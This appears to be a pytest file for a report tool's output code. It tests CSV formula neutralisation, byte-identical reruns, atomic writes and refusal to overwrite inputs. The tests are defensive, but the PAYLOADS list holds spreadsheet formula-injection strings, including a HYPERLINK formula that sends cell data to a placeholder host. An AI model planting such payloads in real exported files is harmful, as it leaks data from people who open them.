"""Outputs: Excel-safe CSV, byte-identical reruns, atomic writes, never over an input."""

from __future__ import annotations

import csv
import io
import json
import os
import time

import pytest

from graphgov.errors import OutputError
from graphgov.reports import output as output_mod

PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def read_csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_formula_cells_are_neutralised_and_json_keeps_raw_values(cli, write, tmp_path):
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["id", "owner", "criticality"])
    w.writerows([f"n{i}", p, (i % 5) + 1] for i, p in enumerate(PAYLOADS))
    w.writerow(["=evil", "-5", 2])
    inv = write("services.csv", buf.getvalue())
    out = tmp_path / "out.csv"
    assert cli("analyze", inv, "-o", out, "-q").exit_code == 0
    table = read_csv(out)
    header, body = table[0], table[1:]
    owner = header.index("owner")
    owners = {r[header.index("node")]: r[owner] for r in body}
    for i, p in enumerate(PAYLOADS):
        # text fields are stripped of surrounding white space when read, then neutralised
        assert owners[f"n{i}"] == "'" + p.strip()
    assert "'=evil" in owners  # ids too
    assert owners["'=evil"] == "'-5"  # text that looks like a number is still text
    # numeric columns are left alone
    assert all(not r[header.index("blast_radius")].startswith("'") for r in body)
    js = tmp_path / "out.json"
    assert cli("analyze", inv, "-o", js, "-q").exit_code == 0
    data = json.loads(js.read_text(encoding="utf-8"))
    assert {r["owner"] for r in data["rows"]} >= {p.strip() for p in PAYLOADS}


def test_csv_rows_survive_cr_and_lf_inside_values(cli, write, tmp_path):
    inv = write("services.csv", 'id,owner\na,"multi\nline"\nb,"bare\rcr"\n')
    out = tmp_path / "out.csv"
    assert cli("analyze", inv, "-o", out, "-q").exit_code == 0
    raw = out.read_bytes()
    assert raw.count(b"\r\n") >= 3  # CRLF row terminator
    table = read_csv(out)
    assert len(table) == 3 and all(len(r) == len(table[0]) for r in table)
    owners = {r[0]: r[3] for r in table[1:]}
    assert owners == {"a": "multi\nline", "b": "bare\rcr"}


def test_reruns_are_byte_identical(cli, tmp_path):
    from conftest import DATA

    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    for out in (a, b):
        r = cli(
            "analyze",
            DATA / "org",
            "--register",
            DATA / "register.yaml",
            "--as-of",
            "2026-11-26",
            "-o",
            out,
            "-q",
        )
        assert r.exit_code == 0, r.output
    assert a.read_bytes() == b.read_bytes()
    ja, jb = tmp_path / "a.json", tmp_path / "b.json"
    for out in (ja, jb):
        assert (
            cli(
                "analyze",
                DATA / "org",
                "--register",
                DATA / "register.yaml",
                "--as-of",
                "2026-11-26",
                "-o",
                out,
                "-q",
            ).exit_code
            == 0
        )
    assert ja.read_bytes() == jb.read_bytes()


def test_output_over_input_is_refused_before_reading(cli, write, tmp_path):
    inv = write("services.csv", "id\na\n")
    before = inv.read_bytes()
    r = cli("analyze", inv, "-o", inv)
    assert r.exit_code == 4 and f"output would overwrite input {inv}" in r.stderr
    link = tmp_path / "link.csv"
    link.symlink_to(inv)
    assert cli("analyze", inv, "-o", link).exit_code == 4
    hard = tmp_path / "hard.csv"
    os.link(inv, hard)
    assert cli("analyze", inv, "-o", hard).exit_code == 4
    # a file inside an input folder
    assert cli("analyze", tmp_path, "-o", inv).exit_code == 4
    assert inv.read_bytes() == before


def test_crash_mid_write_keeps_previous_output(tmp_path, monkeypatch):
    target = tmp_path / "report.csv"
    target.write_bytes(b"previous")

    def boom(*_a, **_k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output_mod.os, "fsync", boom)
    with pytest.raises(OutputError, match="disk full"):
        output_mod.write_atomic(target, "new")
    assert target.read_bytes() == b"previous"
    assert not list(tmp_path.glob(".graphgov-*.tmp"))


def test_stale_temporaries_are_removed_by_the_next_run(tmp_path):
    stale = tmp_path / ".graphgov-abc.tmp"
    stale.write_bytes(b"half")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    fresh = tmp_path / ".graphgov-new.tmp"
    fresh.write_bytes(b"another run in progress")
    output_mod.write_atomic(tmp_path / "out.csv", "x")
    assert not stale.exists() and fresh.exists()


def test_locked_output_retries_then_fails_cleanly(tmp_path, monkeypatch):
    target = tmp_path / "report.csv"
    target.write_bytes(b"old")
    calls = []

    def locked(src, dst):
        calls.append(dst)
        raise PermissionError(13, "in use")

    monkeypatch.setattr(output_mod.os, "replace", locked)
    with pytest.raises(OutputError, match="cannot replace .*report.csv: in use"):
        output_mod.write_atomic(target, "new", retries=3, delay=0)
    assert len(calls) == 3
    assert target.read_bytes() == b"old"
    assert not list(tmp_path.glob(".graphgov-*.tmp"))


def test_missing_output_folder_exits_4(cli, write, tmp_path):
    inv = write("services.csv", "id\na\n")
    r = cli("analyze", inv, "-o", tmp_path / "nope" / "out.csv")
    assert r.exit_code == 4 and "does not exist" in r.stderr


def test_device_targets_are_written_not_replaced(tmp_path):
    output_mod.write_atomic("/dev/null", "x")
    assert not os.path.isfile("/dev/null")


def test_long_cells_warn_for_excel(cli, write, tmp_path):
    inv = write("services.csv", "id,owner\na," + "o" * 40_000 + "\n")
    r = cli("analyze", inv, "-o", tmp_path / "o.csv")
    assert r.exit_code == 0
    assert "Excel's 32767-character cell limit" in r.stderr


def test_negative_numbers_are_not_neutralised():
    from graphgov.reports.tables import to_csv

    text, _ = to_csv(
        ["gradient", "owner", "delta"],
        [{"gradient": -5.54, "owner": "-5", "delta": -3}],
        bom=False,
        decimals={"gradient": 2},
    )
    assert text.splitlines()[1] == "-5.54,'-5,-3"


def test_long_work_is_announced_on_a_terminal_only(monkeypatch, capsys):
    import networkx as nx

    from graphgov.cli import common

    opts = common.LoadOptions(("x",), (), None, None, None, None, None, (), None, False)
    G = nx.path_graph(5, create_using=nx.DiGraph)
    monkeypatch.setattr(common, "LARGE_GRAPH", 5)
    monkeypatch.setattr(common.sys.stderr, "isatty", lambda: True)
    opts.announce(G, "computing every metric")
    assert "computing every metric for 5 nodes and 4 edges" in capsys.readouterr().err
    monkeypatch.setattr(common.sys.stderr, "isatty", lambda: False)
    opts.announce(G, "computing every metric")
    assert capsys.readouterr().err == ""
